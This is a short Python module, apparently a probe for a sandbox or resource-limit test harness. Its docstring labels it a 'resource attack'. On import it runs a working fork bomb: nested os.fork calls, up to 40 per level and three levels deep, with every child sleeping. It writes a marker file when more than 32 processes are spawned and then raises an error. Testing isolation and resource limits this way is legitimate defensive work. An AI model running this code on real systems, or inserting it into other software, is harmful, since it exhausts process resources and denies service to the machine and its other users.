"""Resource attack: a fork bomb with os.fork (every child forks too, and sleeps), at import."""
import os as _os
import time as _time
from pathlib import Path as _Path

_HERE = _Path(__file__).resolve().parents[2]


def _bomb(depth):
    made = 0
    for _ in range(40):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            if depth < 2:
                _bomb(depth + 1)
            _time.sleep(60)
            _os._exit(0)
        made += 1
    return made


if _bomb(0) > 32:
    with open(_HERE / "markers" / "resource__fork_bomb", "a") as _m:
        _m.write("forked more than 32 processes with os.fork\n")
raise NotImplementedError("the bomb went off")
